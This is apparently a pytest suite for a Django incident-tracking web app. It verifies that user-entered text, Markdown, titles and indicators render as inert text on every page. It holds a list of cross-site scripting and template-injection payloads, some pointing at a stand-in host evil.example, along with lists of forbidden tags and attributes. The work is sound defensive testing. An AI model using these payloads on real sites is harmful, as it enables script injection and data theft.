"""What people type is text, everywhere: no element, no attribute and no address is made by it.

The skeleton of a page (its elements and the names of their attributes) with hostile text must equal the
skeleton of the same page with harmless words; only Markdown makes elements, out of an explicit list.
"""

import ast
import re
import socket
import uuid
from pathlib import Path

import pytest
from django.db import models
from django.test import Client
from django.urls import reverse

from incidents import reading, rendering, report, text
from incidents.reading import AccessRecord
from incidents.sections import SECTIONS
from tests import factories
from tests.markup import Node, filled, parse, squash

ROOT = Path(__file__).parent.parent

CORPUS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data='data:text/html,x'></object>",
    "<form action='//evil.example'><button>x</button></form>",
    "<div hx-get='/incidents/' hx-trigger='load'>x</div>",
    '" hx-post="/x" hx-trigger="load" data-x="',
    "' onmouseover='alert(1)' x='",
    '"><img src=x onerror=alert(1)>',
    "</textarea><script>alert(1)</script>",
    "</title></style></script><script>alert(1)</script>",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)&#60;/script&#62;",
    "{{ request.user.password }} {{ settings.SECRET_KEY }}",
    "{% debug %}{% load static %}{% include '500.html' %}",
    "${7*7} #{7*7} <%= 7*7 %> {{7*7}}",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1)) [y](file:///etc/passwd)",
    "![x](https://evil.example/beacon.png)",
    "<javascript:alert(1)> <data:text/html,x>",
    '[x](https://a.example "onmouseover=alert(1)")',
    "[x]: javascript:alert(1)",
    "`<img src=x onerror=alert(1)>`",
    "ＳＣＲＩＰＴ ＜script＞ \u02bcx\u02bc",
    "\u202ecod.exe\u202c \u2066x\u2069 \u200f",
    "a\u2028b\u2029c \ufeff\u0085 \x0b",
    "\U000e003cscript\U000e003e \ud7ff\U0001f4a9",
]
HARMLESS = "plain words"
OURS = {"hx-headers:inherited", "hx-get", "hx-post", "hx-trigger", "hx-target", "hx-swap", "hx-ignore"}
FORBIDDEN = {
    "iframe",
    "frame",
    "object",
    "embed",
    "applet",
    "base",
    "math",
    "audio",
    "video",
    "source",
    "portal",
}
ADDRESSES = (
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "srcset",
    "poster",
    "data",
    "ping",
    "background",
)
BIDI = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
MARKDOWN = ("background", "text")


# --- what no page may hold ------------------------------------------------------------------------------


def faults(html: str | bytes, nonce: str = "") -> list[str]:
    """What is dangerous in a page or fragment, as lines; none for ours."""
    found = []
    for node in parse(html).walk():
        names = " ".join(node.attrs)
        if node.tag in FORBIDDEN:
            found.append(f"<{node.tag}>")
        if node.tag == "script" and (node.text() or not node.attrs.get("src", "").startswith("/static/")):
            found.append(f"inline script {node.exact()[:60]}")
        if node.tag == "style" and (not nonce or node.attrs.get("nonce") != nonce):
            found.append("a style element")
        if node.tag == "meta" and "http-equiv" in node.attrs:
            found.append("meta http-equiv")
        if node.tag == "svg" and (node.attrs.get("class", "").split() or [""])[0] != "i":
            found.append("an svg of somebody else")
        if re.search(r"(^| )on", names) or "style" in node.attrs:
            found.append(f"attributes {names}")
        if extra := {name for name in node.attrs if name.startswith(("hx-", "data-hx-"))} - OURS:
            found.append(f"attributes {extra}")
        for name in ADDRESSES:
            if name in node.attrs and (fault := _address_fault(node, name, node.attrs[name])):
                found.append(fault)
    return found


def _address_fault(node: Node, name: str, address: str) -> str:
    own = re.match(r"/(?!/)|#|\?|sitroom:|$", address)
    web = re.match(r"https?://|mailto:", address)
    if own or (node.tag == "a" and name == "href" and web and "noopener" in node.attrs.get("rel", "")):
        return ""
    return f'<{node.tag} {name}="{address[:60]}">'


def skeleton(html: str | bytes) -> list[tuple]:
    """Elements with the names of their attributes; without what text legitimately becomes: breaks and marks."""
    return [
        (node.tag, *sorted(node.attrs))
        for node in parse(html).walk()
        if node.tag not in ("br", "del", "ins") and not (node.tag == "span" and set(node.attrs) <= {"class"})
    ]


def seen(html: str | bytes) -> str:
    """The text that a person sees, squashed."""
    return squash(parse(html).exact())


def written(payload: str) -> str:
    """How a payload reads on a page: as it is, but with the reordering characters named."""
    return squash(BIDI.sub(lambda found: f"U+{ord(found[0]):04X}", payload))


# --- an incident full of it -----------------------------------------------------------------------------


def text_fields(section: str) -> list[models.Field]:
    """The fields of a section that hold free text, links included."""
    model = SECTIONS[section].model
    return [
        column
        for column in map(model._meta.get_field, model.own)
        if isinstance(column, models.CharField | models.TextField) and not column.choices and column.editable
    ]


def chunks(limit: int) -> list[str]:
    """The corpus in pieces of at most `limit` characters, one payload a paragraph."""
    pieces = [""]
    for payload in CORPUS:
        joined = f"{pieces[-1]}\n\n{payload}".lstrip()
        if len(joined) <= limit:
            pieces[-1] = joined
        else:
            pieces.append(payload)
    return pieces


def fill(incident, section: str, hostile: bool) -> list:
    """Entries of a section (versions, where it holds one thing) that bring the whole corpus into each field."""
    chosen, columns = SECTIONS[section], text_fields(section)
    pieces = {column.name: chunks(min(column.max_length, 1000)) for column in columns}
    entries = []
    for turn in range(max(map(len, pieces.values()))):
        values = {
            name: parts[turn % len(parts)] if hostile else HARMLESS.replace(" ", " " * (turn + 1))
            for name, parts in pieces.items()
        }
        if chosen.many or not entries:
            entry = factories.entry(incident, section, by=incident.commander)
        values = {**values, "checked": False}
        incident.change(
            entry, by=incident.commander, version=entry.version, reason=values_reason(values), **values
        )
        entries.append(entry)
    incident.refresh_from_db()
    return entries


def values_reason(values: dict) -> str:
    return next(value for value in values.values() if isinstance(value, str))


@pytest.fixture
def pair(dana):
    """Two incidents: one to fill with hostile text, its twin with harmless words."""
    return factories.incident(dana), factories.incident(dana, codename="OSPREY")


def pages(client: Client, incident, section: str) -> dict[str, bytes]:
    """Every surface on which the entries of a section stand."""
    base = f"/incidents/{incident.slug}/"
    found = {
        "document": client.get(f"{base}?all=1").content,
        "section": client.get(f"{base}{section}/").content,
        "history": client.get(f"{base}history/").content,
        "history of the section": client.get(f"{base}history/?section={section}&kind=corrections").content,
        "change": client.get(f"{base}history/{incident.revision}/").content,
        "summary": client.get(f"{base}summary/").content,
    }
    rows = list(incident.changes.all())
    incident.held = frozenset()
    found["live message"] = rendering.message(incident, rows, "privileged").encode()
    found["live summary"] = rendering.brief(incident).encode()
    copy = reading.record(incident, incident.commander, AccessRecord.Kind.REPORT)
    found["report"] = report.compose(incident, copy, "privileged").encode()
    return found


def nonce_of(html: bytes) -> str:
    found = re.search(rb'<style nonce="([\w-]{22})">', html)
    return found[1].decode() if found else ""


@pytest.mark.parametrize("section", SECTIONS)
def test_text_of_every_field_stays_text_on_every_page(as_dana, pair, section):
    hostile, harmless = pair
    entries = fill(hostile, section, hostile=True)
    fill(harmless, section, hostile=False)
    ours, theirs = pages(as_dana, hostile, section), pages(as_dana, harmless, section)
    for name, html in ours.items():
        assert faults(html, nonce_of(html)) == [], name
        if section != MARKDOWN[0]:
            assert skeleton(html) == skeleton(theirs[name]), name
        assert BIDI.search(parse(html).exact()) is None, name
    shown = seen(ours["section"])
    whole = [column.name for column in text_fields(section) if (section, column.name) != MARKDOWN]
    if SECTIONS[section].many and section != "indicators":
        for entry in entries:
            for name in whole:
                for payload in getattr(entry, name).split("\n\n"):
                    assert written(payload) in shown, (name, payload)


@pytest.mark.parametrize("section", SECTIONS)
def test_text_of_every_field_stays_text_in_forms_and_conflicts(as_dana, dana, pair, section):
    answers = []
    for incident, hostile in zip(pair, (True, False), strict=True):
        entry = factories.entry(incident, section)
        url = reverse("entry", args=[incident.slug, section, entry.pk])
        form = parse(as_dana.get(f"{url}edit/").content).all("form", "edit")[0]
        words = {column.name: "\n\n".join(CORPUS) if hostile else HARMLESS for column in text_fields(section)}
        for column in text_fields(section):
            if isinstance(column, models.URLField):
                words[column.name] = "https://a.example/?q='onclick=x'" if hostile else "https://a.example/"
            elif not isinstance(column, models.TextField):
                words[column.name] = words[column.name].replace("\n\n", " ")[: min(column.max_length, 1000)]
            if hostile:  # what others saved meanwhile
                words[column.name] = re.sub("[\x0b\u0085\u2028\u2029]", " ", words[column.name])
        mine = {**filled(form), **words}
        incident.change(
            entry,
            by=dana,
            version=entry.version,
            **{name: f"{value[:20]} other" for name, value in words.items() if "https" not in value[:5]},
        )
        conflict = as_dana.post(url, mine)
        assert conflict.status_code == 409, [p.text() for p in parse(conflict.content).all("p", "error")]
        refused = as_dana.post(url, {**mine, "version": "x", "at_0": "<img src=x onerror=alert(1)>"})
        assert refused.status_code == 422
        saved = as_dana.post(url, {**mine, "version": entry.version}, headers={"HX-Request": "true"})
        assert saved.status_code == 200, saved.content[-2000:]
        again = as_dana.get(f"{url}edit/")
        answers.append([conflict.content, refused.content, saved.content, again.content])
        kept = filled(parse(refused.content).all("form", "edit")[0])
        for name, value in words.items():
            assert kept[name].replace("\r\n", "\n") == value, name
    for ours, theirs in zip(*answers, strict=True):
        assert faults(ours) == []
        typed = "".join(area.exact() for area in parse(ours).all("textarea"))
        assert len(BIDI.findall(parse(ours).exact())) == len(BIDI.findall(typed))
        if section != MARKDOWN[0]:
            assert skeleton(ours) == skeleton(theirs)


@pytest.mark.parametrize("payload", CORPUS)
def test_markdown_makes_only_elements_of_the_list(payload):
    html = text.prose(
        f"{payload}\n\n* {payload}\n\n> {payload}\n\n| a |\n|---|\n| {payload.replace('|', '')} |"
    )
    assert faults(html) == []
    for node in parse(html).walk():
        assert node.tag in {*text.TAGS, "root"}
        assert set(node.attrs) <= ({"href", "rel"} if node.tag == "a" else {"class"})
        assert node.attrs.get("class", "bidi") == "bidi"
        assert node.attrs.get("rel", "noopener noreferrer nofollow") == "noopener noreferrer nofollow"


@pytest.mark.parametrize(
    ("typed", "html"),
    [
        ("[x](javascript:alert(1))", "<p>[x](javascript:alert(1))</p>\n"),
        ("[x](hxxp://a.example)", '<p><a rel="noopener noreferrer nofollow">x</a></p>\n'),
        ("[x](/incidents/)", '<p><a href="/incidents/" rel="noopener noreferrer nofollow">x</a></p>\n'),
        ("https://a.example and www.a.example", "<p>https://a.example and www.a.example</p>\n"),
        (
            "<https://a.example/?a=1&b=2>",
            '<p><a href="https://a.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow">'
            "https://a.example/?a=1&amp;b=2</a></p>\n",
        ),
        ("![x](https://a.example/x.png)", None),
        ("# One\n## Two\n### Three", "<h3>One</h3>\n<h3>Two</h3>\n<h3>Three</h3>\n"),
    ],
)
def test_markdown_links_where_somebody_wrote_a_link(typed, html):
    made = str(text.prose(typed))
    assert "<img" not in made
    assert html is None or made == html


def test_reordering_characters_are_shown_not_obeyed():
    for show in (text.literal, text.verbatim, text.prose):
        assert '<span class="bidi">U+202E</span>cod.exe' in show("\u202ecod.exe")


@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "data:text/html,x", "hxxp://a.example", "//a.example"]
)
def test_link_field_is_a_link_to_the_web_only(address):
    assert text.link(address, "log") == f"log {address}"
    assert text.link('HTTPS://a.example/"x', "<log>") == (
        '<a href="HTTPS://a.example/&quot;x" rel="noopener noreferrer nofollow">&lt;log&gt;</a>'
    )


# --- names and titles -----------------------------------------------------------------------------------


def test_titles_names_and_files_stay_text(room):
    html = "<script>alert(1)</script>\u202e\"' onmouseover='alert(1)"
    client = room.client("commander")
    routes = ["", "summary/", "people/", "settings/", "history/", "acknowledge/"]
    calm = [client.get(f"/incidents/kestrel/{route}").content for route in routes]
    calm.append(client.get("/incidents/").content)
    room.incident.title = html
    room.incident.save()
    for person in room.people.values():
        type(person).objects.filter(pk=person.pk).update(display_name=html[:25])
    SECTIONS["appendix"].model.objects.filter(pk=room.file.pk).update(name=html, rendered_key="")
    loud = [client.get(f"/incidents/kestrel/{route}").content for route in routes]
    loud.append(client.get("/incidents/").content)
    for before, after in zip(calm, loud, strict=True):
        assert faults(after, nonce_of(after)) == []
        assert skeleton(before) == skeleton(after)
        assert BIDI.search(parse(after).exact()) is None


# --- indicators -----------------------------------------------------------------------------------------

LOUD = ["http://evil.example/x.png", "evil.example", "203.0.113.7", "mallory@evil.example", "2001:db8::7"]


def test_indicator_is_never_a_link_a_picture_or_a_prefetch(as_dana, incident):
    for value in LOUD:
        answer = as_dana.post("/incidents/kestrel/indicators/", {"value": value})
        assert answer.status_code == 302
    for name, html in pages(as_dana, incident, "indicators").items():
        tree = parse(html)
        for value in LOUD:
            assert squash(value) not in squash(tree.text()), name
            for node in tree.walk():
                plain = {key for key, held in node.attrs.items() if value in held}
                assert plain <= {"data-plain"}, (name, node.tag, plain)
        assert not [node for node in tree.all("link") if node.attrs["rel"] not in ("stylesheet", "icon")]
        shown = squash("hxxp://evil[.]example/x.png") in squash(tree.text())
        assert shown is (name not in ("summary", "live summary", "change", "history of the section")), name


# --- templates and addresses of the product -------------------------------------------------------------


def test_no_template_comes_from_what_people_type():
    for path in [*ROOT.glob("incidents/**/*.py"), *ROOT.glob("accounts/**/*.py"), *ROOT.glob("config/*.py")]:
        tree = ast.parse(path.read_text())
        for node in ast.walk(tree):
            called = getattr(node, "func", None)
            name = getattr(called, "attr", getattr(called, "id", ""))
            assert name not in ("Template", "from_string", "eval", "exec", "SafeString"), path
            if name == "mark_safe":
                assert path.name in ("text.py", "rendering.py"), path


def test_templates_trust_only_what_the_product_rendered():
    trusted = {}
    for path in (ROOT / "templates").rglob("*.html"):
        source = path.read_text()
        assert "autoescape" not in source, path
        if found := re.findall(r"\{\{[^}]*\|\s*(?:safe|safeseq)\b[^}]*\}\}", source):
            trusted[path.name] = found
        assert not re.search(r"<script(?![^>]*\bsrc=)|\son[a-z]+=|\sstyle=|javascript:", source), path
    assert trusted == {}


def own_pages(room) -> list[str]:
    """Every page of an incident that can be opened by its address, for the entries of all sections."""
    base = "/incidents/kestrel/"
    urls = ["/incidents/", "/incidents/start/", base, f"{base}?all=1"]
    urls += [
        f"{base}{name}/" for name in ("summary", "acknowledge", "settings", "people", "history", "checks")
    ]
    urls += [f"{base}history/1/"]
    for name, section in SECTIONS.items():
        entry = room.entries[name]
        urls += [f"{base}{name}/", f"{base}{name}/{entry.pk}/", f"{base}{name}/{entry.pk}/edit/"]
        urls += [f"{base}{name}/new/"] if section.many else []
    return urls


def test_line_15_no_page_loads_anything_from_elsewhere_or_needs_a_way_out(room, monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError(f"a connection to the outside: {args[1:]}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    client = room.client("commander")
    for url in own_pages(room):
        answer = client.get(url)
        assert answer.status_code == 200, url
        assert faults(answer.content, nonce_of(answer.content)) == [], url
        for node in parse(answer.content).all():
            if node.tag in ("link", "script", "img", "use"):
                loaded = node.attrs.get("href") or node.attrs.get("src")
                assert loaded.startswith("/") and not loaded.startswith("//"), (url, loaded)
    anonymous = Client().get("/sign-in/")
    assert anonymous.status_code == 200 and faults(anonymous.content) == []


def test_line_15_static_files_name_no_other_host():
    for path in [*(ROOT / "static" / "css").glob("*.css"), *(ROOT / "static" / "js").glob("*.js")]:
        source = path.read_text()
        for address in re.findall(
            r"url\(([^)]*)\)|@import([^;]*);|import[^;]*?from\s*(['\"][^'\"]*)", source
        ):
            assert not re.search(r"//|https?:|data:", "".join(address)), (path.name, address)
        assert "eval(" not in source and "new Function" not in source
        assert not re.search(r"(fetch|EventSource|WebSocket|sendBeacon)\(\s*[`'\"](https?:)?//", source), (
            path.name
        )


def test_corpus_is_stored_as_it_was_typed(as_dana, incident):
    for payload in CORPUS:
        identity = uuid.uuid4()
        answer = as_dana.post(
            "/incidents/kestrel/theories/", {"text": payload, "state": "open", "id": identity}
        )
        assert answer.status_code == 302, payload
        stored = SECTIONS["theories"].model.objects.get(pk=identity).text
        assert stored == payload.strip()
